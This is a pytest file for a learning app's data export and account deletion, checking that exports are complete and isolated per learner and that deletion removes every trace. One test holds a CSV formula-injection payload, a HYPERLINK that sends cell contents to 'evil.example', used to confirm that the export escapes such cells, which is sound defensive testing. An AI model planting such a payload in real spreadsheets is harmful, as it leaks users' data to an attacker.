"""Export my data and delete my account: complete for the learner, nothing of anyone else."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from sqlalchemy import text

from engine import account_data, integrity, library, originals
from engine.bootstrap import create_runtime
from engine.errors import EngineError
from engine.practice.submit import submit_answer
from engine.retrieval.vectors import owner_of
from engine.tutor import store as tutor_store
from tests.support.library_pdfs import text_pdf
from tests.support.practice import add_question, token

LEARNERS = {
    "alice": (
        "alice@example.com",
        "Alice reads about glacial erosion and moraines.",
        "Glaciology notes",
        "Which landform does a glacier leave behind? alicetoken",
    ),
    "bob": (
        "bob@example.com",
        "Bob studies the Krebs cycle in mitochondria.",
        "Biochemistry notes",
        "What does the Krebs cycle produce? bobtoken",
    ),
}


@pytest.fixture
def rt(runtime, llm_stub):
    hosted = llm_stub.settings_for(runtime.settings, embedding_model="openai/stub-embed")
    rt = create_runtime(hosted, migrate=False)
    yield rt
    rt.close()


@pytest.fixture
def learners(rt, make_user):
    """Two learners, each with a material (and its original), a question, an attempt and a
    review state."""
    made = {}
    for key, (email, body, title, stem) in LEARNERS.items():
        uid = make_user(email, display_name=key.title())
        pdf = text_pdf([body], title=title)
        m = library.ingest_pdf(rt, user_id=uid, data=pdf, filename=f"{key}.pdf").material
        qid = add_question(
            rt.session_factory, uid, stem=stem, material_id=m.id, material_title=title
        )
        submit_answer(
            rt,
            user_id=uid,
            question_id=qid,
            token=token(),
            response=1,
            confidence=4,
            seconds=20,
            expected_reviews=0,
        )
        chat = f"{key}chat: what does {title} say?"
        _converse(rt, uid, chat, f"{key}reply: it says what the notes say.")
        made[key] = {
            "id": uid,
            "email": email,
            "pdf": pdf,
            "material": m,
            "title": title,
            "sha": hashlib.sha256(pdf).hexdigest(),
            "stem": stem,
            "body": body,
            "chat": chat,
        }
    return made


def _converse(rt, user_id: int, question: str, answer: str) -> None:
    """A tutor conversation with one question and its answer."""
    from engine.db.models import Conversation

    conv_id = tutor_store.create_conversation(rt, user_id=user_id).id
    with rt.session_factory.begin() as s:
        conv = s.get(Conversation, conv_id)
        tutor_store.add_message(
            s,
            user_id=user_id,
            conversation=conv,
            role="user",
            kind="question",
            mode="explain",
            content=question,
        )
        tutor_store.add_message(
            s,
            user_id=user_id,
            conversation=conv,
            role="assistant",
            kind="answer",
            mode="explain",
            content=answer,
            citations=[{"n": 1, "title": "notes", "text": answer}],
            cited_share=1.0,
        )


def _zip(rt, user_id: int) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(account_data.export_account_bytes(rt, user_id=user_id)))


@pytest.mark.slow
def test_export_holds_the_learners_data_and_original_pdfs(rt, learners):
    alice = learners["alice"]
    zf = _zip(rt, alice["id"])
    names = set(zf.namelist())
    assert {
        "account.json",
        "materials.csv",
        "questions.json",
        "attempts.csv",
        "review_states.csv",
        "flags.csv",
        "scheduler_parameters.csv",
        "llm_usage.csv",
        "rejected_questions.csv",
    } <= names
    original = f"originals/{alice['material'].id}-alice.pdf"
    assert zf.read(original) == alice["pdf"]
    assert alice["title"] in zf.read("materials.csv").decode()
    assert original in zf.read("materials.csv").decode()
    assert alice["stem"] in zf.read("questions.json").decode()
    assert len(zf.read("attempts.csv").decode().strip().splitlines()) == 2  # header + 1
    assert len(zf.read("review_states.csv").decode().strip().splitlines()) == 2
    account = zf.read("account.json").decode()
    assert alice["email"] in account and "password" not in account and "$2" not in account


def test_export_holds_the_learners_tutor_conversations_and_messages(rt, learners):
    alice = learners["alice"]
    conversations = json.loads(_zip(rt, alice["id"]).read("tutor.json"))
    assert len(conversations) == 1
    (conv,) = conversations
    assert conv["title"] == alice["chat"]  # titled from the first question
    assert [(m["role"], m["content"]) for m in conv["messages"]] == [
        ("user", alice["chat"]),
        ("assistant", "alicereply: it says what the notes say."),
    ]
    assert conv["messages"][1]["citations"][0]["title"] == "notes"


def test_export_contains_nothing_of_another_learner(rt, learners):
    alice, bob = learners["alice"], learners["bob"]
    zf = _zip(rt, alice["id"])
    for name in zf.namelist():
        data = zf.read(name)
        assert data != bob["pdf"]
        for secret in (
            bob["email"],
            bob["title"],
            bob["stem"],
            "bobtoken",
            "Krebs",
            bob["sha"],
            "bobchat",
            "bobreply",
        ):
            assert secret.encode() not in data, (name, secret)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_export_csvs_write_formula_like_text_as_text(rt, make_user):
    """A PDF whose metadata title and file name start spreadsheet formulas, and an answer
    that does: every such CSV cell gets a leading quote; numbers stay numbers."""
    uid = make_user()
    pdf = text_pdf(["Glaciers carve cirques and leave moraines behind."], title=FORMULA_TITLE)
    m = library.ingest_pdf(rt, user_id=uid, data=pdf, filename="@SUM(A1).pdf").material
    assert m.title == FORMULA_TITLE
    qid = add_question(rt.session_factory, uid, material_id=m.id, material_title=m.title)
    submit_answer(
        rt,
        user_id=uid,
        question_id=qid,
        token=token(),
        response=1,
        confidence=4,
        seconds=20,
        expected_reviews=0,
    )
    with rt.session_factory.begin() as s:
        s.execute(text("UPDATE attempts SET dispute_note = '-2+3' WHERE user_id = :u"), {"u": uid})
    zf = _zip(rt, uid)
    (material,) = csv.DictReader(io.StringIO(zf.read("materials.csv").decode()))
    assert material["title"] == "'" + FORMULA_TITLE
    assert material["filename"] == "'@SUM(A1).pdf"
    assert material["size_bytes"] == str(len(pdf))
    (attempt,) = csv.DictReader(io.StringIO(zf.read("attempts.csv").decode()))
    assert attempt["dispute_note"] == "'-2+3"
    for name in (n for n in zf.namelist() if n.endswith(".csv")):
        for row in csv.reader(io.StringIO(zf.read(name).decode())):
            assert not [c for c in row if c.startswith(FORMULA_STARTS)], (name, row)


def test_export_gives_the_text_of_materials_without_a_stored_original(rt, learners):
    alice = learners["alice"]
    originals.remove_original(rt, user_id=alice["id"], sha256=alice["sha"])
    zf = _zip(rt, alice["id"])
    page_text = zf.read(f"text/{alice['material'].id}-alice.pdf.txt").decode()
    assert "glacial erosion" in page_text and "--- page 1 ---" in page_text


def _rows_of(rt, user_id: int, email: str) -> dict[str, int]:
    """Rows that belong to the learner, in every table that has a user_id column."""
    with rt.engine.connect() as conn:
        tables = (
            conn.execute(
                text(
                    "SELECT table_name FROM information_schema.columns WHERE table_schema = 'public' "
                    "AND column_name = 'user_id' ORDER BY table_name"
                )
            )
            .scalars()
            .all()
        )
        counts = {
            t: conn.execute(
                text(f'SELECT count(*) FROM "{t}" WHERE user_id = :u'), {"u": user_id}
            ).scalar_one()
            for t in tables
        }
        counts["users"] = conn.execute(
            text("SELECT count(*) FROM users WHERE id = :u"), {"u": user_id}
        ).scalar_one()
        counts["login_attempts(email)"] = conn.execute(
            text("SELECT count(*) FROM login_attempts WHERE email_normalized = :e"), {"e": email}
        ).scalar_one()
    return counts


def _collections(rt, user_id: int) -> list[str]:
    return [n for n in rt.vectors.list_names() if owner_of(n) == user_id]


def test_delete_account_removes_everything_of_the_learner_only(rt, learners):
    from engine.accounts import authenticate

    alice, bob = learners["alice"], learners["bob"]
    with pytest.raises(EngineError):  # leaves a login attempt row
        authenticate(rt, email=alice["email"], password="wrong password!")
    library.reindex(rt, user_id=alice["id"])  # a pointer row and a renamed collection
    assert _collections(rt, alice["id"])
    assert sum(_rows_of(rt, alice["id"], alice["email"]).values()) > 0
    bob_before = _rows_of(rt, bob["id"], bob["email"])
    bob_vectors = library.vector_count(rt, user_id=bob["id"])

    account_data.delete_account(rt, user_id=alice["id"])

    left = _rows_of(rt, alice["id"], alice["email"])
    assert left and set(left.values()) == {0}, left
    assert "materials" in left and "attempts" in left and "review_states" in left
    assert "conversations" in left and "messages" in left
    assert _collections(rt, alice["id"]) == []
    assert not (originals.originals_root(rt) / str(alice["id"])).exists()

    assert _rows_of(rt, bob["id"], bob["email"]) == bob_before
    assert library.vector_count(rt, user_id=bob["id"]) == bob_vectors
    assert originals.original_path(rt, user_id=bob["id"], sha256=bob["sha"]).is_file()
    assert (
        library.search_library(rt, user_id=bob["id"], query=bob["body"])[0].material_id
        == bob["material"].id
    )
    assert integrity.check(rt) == []


def test_leftovers_of_a_deleted_account_are_repaired(rt, learners):
    """A crash after the rows were deleted leaves the collection and files; check finds them."""
    alice, bob = learners["alice"], learners["bob"]
    with rt.session_factory.begin() as s:
        s.execute(text("DELETE FROM users WHERE id = :u"), {"u": alice["id"]})
    kinds = {(d.user_id, d.kind) for d in integrity.check(rt)}
    assert kinds == {(alice["id"], "stray-collection"), (alice["id"], "stray-file")}
    integrity.repair(rt)
    assert integrity.check(rt) == []
    assert _collections(rt, alice["id"]) == []
    assert library.vector_count(rt, user_id=bob["id"]) == bob["material"].chunk_count
